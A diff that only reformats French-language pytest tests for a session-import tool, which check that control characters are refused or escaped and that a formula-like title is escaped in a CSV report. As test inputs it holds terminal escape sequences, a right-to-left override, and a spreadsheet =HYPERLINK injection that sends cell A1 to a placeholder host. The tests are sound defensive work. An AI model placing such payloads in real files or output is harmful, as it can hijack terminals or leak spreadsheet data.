@@ -29,13 +29,18 @@ def test_an_imported_etablissement_with_control_characters_is_refused_with_its_p
     with Store(tmp_path / "coord") as coord, pytest.raises(ImportRefused) as refused:
         import_file(coord, path)
     bad = next(c for c in name if not c.isprintable() or c == "\u202e")
-    assert (f"e.json, séance 1 : établissement : caractère de contrôle interdit "
-            f"(U+{ord(bad):04X}) en position {name.index(bad) + 1}") in str(refused.value)
+    assert (
+        f"e.json, séance 1 : établissement : caractère de contrôle interdit "
+        f"(U+{ord(bad):04X}) en position {name.index(bad) + 1}"
+    ) in str(refused.value)
 
 
 def test_a_csv_row_with_an_escape_sequence_is_refused_with_its_line(tmp_path, capsys):
-    path = seances_csv(tmp_path, "2025-03-10,afev,atelier,college,Collège A,20,60",
-                       "2025-03-11,afev,atelier,college,\"B\x1b]0;titre\x07\",20,60")
+    path = seances_csv(
+        tmp_path,
+        "2025-03-10,afev,atelier,college,Collège A,20,60",
+        '2025-03-11,afev,atelier,college,"B\x1b]0;titre\x07",20,60',
+    )
     assert main(["--donnees", str(tmp_path / "d"), "importer", str(path)]) == 1
     err = capsys.readouterr().err
     assert "ligne 3 : établissement : caractère de contrôle interdit (U+001B) en position 2" in err
@@ -46,8 +51,10 @@ def test_what_reached_the_store_anyway_is_shown_escaped(tmp_path, capsys):
     data = tmp_path / "d"
     with Store(data) as store:  # a store written by an older kit, or by hand
         s = store.add_seance(seance(action="evenement", modules=("qcm",)))
-        store.conn.execute("UPDATE seances SET etablissement = ?, modules = ? WHERE id = ?",
-                           ("Coll\x1b[2J\u202eège\x00", "qcm \x1b[31mrouge", s.id))
+        store.conn.execute(
+            "UPDATE seances SET etablissement = ?, modules = ? WHERE id = ?",
+            ("Coll\x1b[2J\u202eège\x00", "qcm \x1b[31mrouge", s.id),
+        )
     assert main(["--donnees", str(data), "seance", "liste"]) == 0
     listing = capsys.readouterr().out
     assert main(["--donnees", str(data), "bilan"]) == 0
@@ -58,7 +65,8 @@ def test_what_reached_the_store_anyway_is_shown_escaped(tmp_path, capsys):
 
 
 def test_content_with_control_characters_is_refused_by_verifier_with_its_line(tmp_path, capsys):
-    (tmp_path / "m.yaml").write_text(textwrap.dedent('''\
+    (tmp_path / "m.yaml").write_text(
+        textwrap.dedent("""\
         id: piege
         titre: "Titre \\e[31m rouge"
         description: "Texte \u202e à l'envers"
@@ -73,7 +81,9 @@ def test_content_with_control_characters_is_refused_by_verifier_with_its_line(tm
                 correcte: true
               - texte: "non"
             explication: "Parce que."
-        '''), encoding="utf-8")
+        """),
+        encoding="utf-8",
+    )
     assert main(["verifier", str(tmp_path)]) == 1
     out = capsys.readouterr().out
     assert "m.yaml:2" in out and "caractère de contrôle interdit (U+001B) en position 7" in out
@@ -83,7 +93,8 @@ def test_content_with_control_characters_is_refused_by_verifier_with_its_line(tm
 def test_a_module_title_that_is_a_formula_is_escaped_in_the_csv_bilan(tmp_path, capsys):
     folder = tmp_path / "modules"
     folder.mkdir()
-    (folder / "formule.yaml").write_text(textwrap.dedent('''\
+    (folder / "formule.yaml").write_text(
+        textwrap.dedent("""\
         id: formule
         titre: '=HYPERLINK("http://exemple.invalid/?x="&A1;"clic")'
         description: "Un module au titre piégé."
@@ -98,7 +109,9 @@ def test_a_module_title_that_is_a_formula_is_escaped_in_the_csv_bilan(tmp_path, 
                 correcte: true
               - texte: "non"
             explication: "Parce que."
-        '''), encoding="utf-8")
+        """),
+        encoding="utf-8",
+    )
     data = tmp_path / "d"
     assert main(["--contenu", str(folder), "verifier"]) == 0  # a title is free text: accepted…
     capsys.readouterr()
